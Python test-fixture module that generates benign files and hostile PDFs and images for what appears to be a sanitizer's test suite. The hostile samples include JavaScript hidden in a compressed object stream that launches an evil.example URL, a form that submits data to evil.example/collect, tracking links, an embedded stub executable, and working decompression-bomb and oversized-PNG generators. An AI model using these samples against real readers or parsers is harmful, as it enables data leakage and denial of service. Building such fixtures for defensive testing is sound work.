"""A corpus of benign and hostile files, made here so that no attack sample is kept in the tree.

Each hostile PDF is built with pikepdf the way an attacker's tool would write it (object streams
compressed, names where a search of the raw bytes cannot see them); the bombs and huge images
are written byte by byte, so making them never allocates what they declare.
"""

from __future__ import annotations

import io
import random
import struct
import zlib
from collections.abc import Callable
from functools import cache

import pikepdf
from pikepdf import Array, Dictionary, Name, ObjectStreamMode, String
from PIL import Image

MiB = 1024 * 1024


# --- Benign -----------------------------------------------------------------------------------
def pdf_bytes(text: str = "hello", *, pages: int = 1) -> bytes:
    """A small real PDF with `text` on each page (Helvetica), as a scanner's software writes."""
    pdf = pikepdf.new()
    for _ in range(pages):
        pdf.add_blank_page(page_size=(595, 842))
        page = pdf.pages[-1]
        font = Dictionary(Type=Name.Font, Subtype=Name.Type1, BaseFont=Name.Helvetica)
        page.obj.Resources = Dictionary(Font=Dictionary(F1=font))
        page.obj.Contents = pdf.make_stream(f"BT /F1 12 Tf 72 720 Td ({text}) Tj ET".encode())
    return _saved(pdf)


def pdf_with_internal_link() -> bytes:
    """A two-page PDF whose first page links to the second: nothing to remove."""
    pdf = pikepdf.Pdf.open(io.BytesIO(pdf_bytes("contents", pages=2)))
    target = Array([pdf.pages[1].obj, Name.Fit])
    link = Dictionary(Type=Name.Annot, Subtype=Name.Link, Rect=[72, 700, 200, 730], Dest=target)
    pdf.pages[0].obj.Annots = Array([link])
    return _saved(pdf)


def png_bytes(width: int = 40, height: int = 30, *, mode: str = "RGB") -> bytes:
    out = io.BytesIO()
    Image.new(mode, (width, height), "white" if mode != "P" else 0).save(out, "PNG")
    return out.getvalue()


def jpeg_with_gps(width: int = 64, height: int = 48, *, orientation: int = 1) -> bytes:
    """A photo as a phone writes it: EXIF with the camera, the place (GPS) and the orientation."""
    image = Image.new("RGB", (width, height), (200, 30, 30))
    exif = Image.Exif()
    exif[0x010F] = "PhoneMaker"  # Make
    exif[0x0110] = "Phone 15"  # Model
    exif[0x0112] = orientation
    exif[0x8825] = {1: "N", 2: (40.0, 24.0, 33.0), 3: "E", 4: (49.0, 52.0, 1.0)}  # GPS: Baku
    out = io.BytesIO()
    image.save(out, "JPEG", exif=exif, quality=90)
    return out.getvalue()


# --- Hostile PDFs -------------------------------------------------------------------------------
def _saved(pdf: pikepdf.Pdf, **options: object) -> bytes:
    out = io.BytesIO()
    pdf.save(out, **options)  # type: ignore[arg-type]
    return out.getvalue()


def _base() -> pikepdf.Pdf:
    return pikepdf.Pdf.open(io.BytesIO(pdf_bytes("hostile")))


def pdf_javascript_in_object_stream() -> bytes:
    """An OpenAction running JavaScript, packed with every other object in a compressed object
    stream: the words /JavaScript and /JS are nowhere in the file's raw bytes."""
    pdf = _base()
    pdf.Root.OpenAction = pdf.make_indirect(
        Dictionary(S=Name.JavaScript, JS=String("app.launchURL('http://evil.example/');"))
    )
    return _saved(pdf, object_stream_mode=ObjectStreamMode.generate)


def pdf_embedded_executable() -> bytes:
    """An /EmbeddedFiles name tree holding a Windows program."""
    pdf = _base()
    program = pikepdf.AttachedFileSpec(pdf, b"MZ\x90\x00" + b"\x00" * 60, filename="setup.exe")
    pdf.attachments["setup.exe"] = program
    return _saved(pdf, object_stream_mode=ObjectStreamMode.generate)


def pdf_uri_link() -> bytes:
    """A link annotation that opens a web address, and an OpenAction that opens another."""
    pdf = _base()
    action = Dictionary(S=Name.URI, URI=String("http://evil.example/track?who=reader"))
    link = Dictionary(Type=Name.Annot, Subtype=Name.Link, Rect=[72, 700, 200, 730], A=action)
    pdf.pages[0].obj.Annots = Array([pdf.make_indirect(link)])
    pdf.Root.OpenAction = Dictionary(S=Name.URI, URI=String("http://evil.example/opened"))
    return _saved(pdf, object_stream_mode=ObjectStreamMode.generate)


def pdf_submit_form() -> bytes:
    """A form whose button sends the answers to a server."""
    pdf = _base()
    submit = Dictionary(S=Name.SubmitForm, F=String("http://evil.example/collect"), Flags=4)
    button = pdf.make_indirect(
        Dictionary(Type=Name.Annot, Subtype=Name.Widget, FT=Name.Btn, T=String("send"), A=submit)
    )
    button.Rect = [72, 600, 200, 630]
    pdf.pages[0].obj.Annots = Array([button])
    pdf.Root.AcroForm = Dictionary(Fields=Array([button]))
    return _saved(pdf, object_stream_mode=ObjectStreamMode.generate)


def pdf_xfa() -> bytes:
    """An XFA form (its own XML program, run by some viewers)."""
    pdf = _base()
    xfa = pdf.make_stream(b"<xdp:xdp xmlns:xdp='http://ns.adobe.com/xdp/'><script/></xdp:xdp>")
    pdf.Root.AcroForm = Dictionary(Fields=Array(), XFA=xfa)
    return _saved(pdf, object_stream_mode=ObjectStreamMode.generate)


def pdf_encrypted(*, user_password: str = "secret") -> bytes:  # noqa: S107 — a test sample
    """AES-256 encrypted; an empty user password means only an owner password restricts it."""
    pdf = pikepdf.Pdf.open(io.BytesIO(pdf_bytes("private")))
    encryption = pikepdf.Encryption(owner="owner-secret", user=user_password, R=6)
    return _saved(pdf, encryption=encryption)


def _deflate_of_zeros(size: int) -> bytes:
    """A zlib stream that inflates to `size` zero bytes, about size/1000 bytes long, written
    from one compressed mebibyte repeated (full flushes make the pieces independent)."""
    compressor = zlib.compressobj(9)
    piece = compressor.compress(b"\0" * MiB) + compressor.flush(zlib.Z_FULL_FLUSH)
    header, body = piece[:2], piece[2:]
    checksum = 1
    for _ in range(size // MiB):
        checksum = zlib.adler32(b"\0" * MiB, checksum)
    return header + body * (size // MiB) + b"\x03\x00" + struct.pack(">I", checksum)


@cache
def pdf_flate_bomb(size: int = 1024 * MiB) -> bytes:
    """A one-page PDF whose content stream is ~1 MB of Flate data declaring a gibibyte."""
    pdf = _base()
    stream = pikepdf.Stream(pdf, b"")
    stream.write(_deflate_of_zeros(size), filter=Name.FlateDecode)
    pdf.pages[0].obj.Contents = pdf.make_indirect(stream)
    return _saved(pdf, stream_decode_level=pikepdf.StreamDecodeLevel.none)


@cache
def pdf_object_stream_bomb(size: int = 1024 * MiB) -> bytes:
    """The document's objects in a compressed object stream padded to a gibibyte: qpdf must
    unpack it to read the catalogue at all. Written by hand (no library writes such a file)."""
    objects = {
        2: b"<< /Type /Catalog /Pages 3 0 R >>",
        3: b"<< /Type /Pages /Kids [4 0 R] /Count 1 >>",
        4: b"<< /Type /Page /Parent 3 0 R /MediaBox [0 0 595 842] >>",
    }
    header = b"".join(
        b"%d %d " % (n, sum(len(objects[m]) + 1 for m in range(2, n))) for n in objects
    )
    prefix = header + b"".join(body + b"\n" for body in objects.values())
    compressor = zlib.compressobj(9)
    data = compressor.compress(prefix) + compressor.flush(zlib.Z_FULL_FLUSH)
    zeros = _deflate_of_zeros(size)
    checksum = zlib.adler32(prefix)
    for _ in range(size // MiB):
        checksum = zlib.adler32(b"\0" * MiB, checksum)
    data += zeros[2:-6] + b"\x03\x00" + struct.pack(">I", checksum)
    out = bytearray(b"%PDF-1.5\n%\xe2\xe3\xcf\xd3\n")
    stream_at = len(out)
    out += b"1 0 obj\n<< /Type /ObjStm /N 3 /First %d /Filter /FlateDecode /Length %d >>\n" % (
        len(header),
        len(data),
    )
    out += b"stream\n" + data + b"\nendstream\nendobj\n"
    xref_at = len(out)
    rows = [b"\x00" + struct.pack(">IH", 0, 0xFFFF), b"\x01" + struct.pack(">IH", stream_at, 0)]
    rows += [b"\x02" + struct.pack(">IH", 1, index) for index in range(3)]
    rows.append(b"\x01" + struct.pack(">IH", xref_at, 0))
    table = b"".join(rows)
    out += b"5 0 obj\n<< /Type /XRef /Size 6 /W [1 4 2] /Root 2 0 R /Length %d >>\n" % len(table)
    out += b"stream\n" + table + b"\nendstream\nendobj\nstartxref\n%d\n%%%%EOF\n" % xref_at
    return bytes(out)


# --- Hostile images -------------------------------------------------------------------------
def _png_chunk(kind: bytes, data: bytes) -> bytes:
    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))


def png_declaring(width: int, height: int) -> bytes:
    """A PNG header declaring width×height RGB pixels, followed by a tiny IDAT: a few hundred
    bytes that a naive decoder would turn into gigabytes."""
    ihdr = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    idat = zlib.compress(b"\0" * 1024)
    return (
        b"\x89PNG\r\n\x1a\n"
        + _png_chunk(b"IHDR", ihdr)
        + _png_chunk(b"IDAT", idat)
        + _png_chunk(b"IEND", b"")
    )


def jpeg_garbage(seed: int = 22) -> bytes:
    """The JPEG signature followed by noise."""
    noise = random.Random(seed).randbytes(4096)  # noqa: S311 — test data, not a secret
    return b"\xff\xd8\xff" + noise


HOSTILE_PDFS: dict[str, Callable[[], bytes]] = {
    "javascript_in_object_stream": pdf_javascript_in_object_stream,
    "embedded_executable": pdf_embedded_executable,
    "submit_form": pdf_submit_form,
    "xfa": pdf_xfa,
    "encrypted": pdf_encrypted,
    "flate_bomb": pdf_flate_bomb,
    "object_stream_bomb": pdf_object_stream_bomb,
}
